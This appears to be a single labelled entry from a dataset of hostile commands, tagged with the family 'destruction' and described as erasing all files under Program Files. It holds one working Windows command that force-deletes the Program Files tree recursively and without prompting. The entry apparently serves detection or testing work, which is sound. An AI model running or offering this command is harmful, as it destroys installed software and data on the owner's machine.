# description: Erases all files under Program Files with erase.
# family: destruction
cmd /c "erase /f /s /q ""C:\Program Files\*"""
